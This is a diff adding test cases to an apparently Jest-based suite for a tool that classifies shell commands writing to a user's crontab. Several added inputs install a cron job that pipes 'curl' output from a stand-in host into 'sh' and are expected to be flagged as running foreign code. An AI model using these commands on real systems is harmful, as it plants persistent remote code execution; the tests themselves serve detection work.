@@ -22,6 +22,12 @@ describe('jobs of the system', () => {
 
 describe('the crontab of the user', () => {
   test.each([
+    `printf '%s\\n' '0 3 * * * ls' '*/20 * * * * curl -s https://x.example/a | sh' | crontab -`,
+    `(crontab -l; printf '%s\\n' '0 3 * * * ls' '*/20 * * * * curl -s https://x.example/a | sh') | crontab -`,
+    `printf '0 3 * * * %s\\n' 'curl -s https://x.example/a | sh' | crontab -`,
+  ])('the jobs that printf prints are read: %s', (text) => expect(kinds(text)).toContain('runs-foreign-code'));
+
+  test.each([
     'crontab -l | grep -v backup | crontab -',
     `(crontab -l; echo '0 3 * * * ls') | crontab -`,
     `crontab -l 2>/dev/null | sed '/backup/d' | crontab -`,
@@ -39,6 +45,8 @@ describe('the crontab of the user', () => {
     `(crontab -l; grep -h . jobs) | crontab -`,
     `grep . < jobs | crontab -`,
     'crontab -l | awk 1 | crontab -',
+    `printf '0 3 * * * \\x6cs\\n' | crontab -`,
+    `(crontab -l; printf '0 3 * * * \\x6cs\\n') | crontab -`,
   ])('not all: %s', (text) => expect(unknown(text)).not.toEqual([]));
 });
 
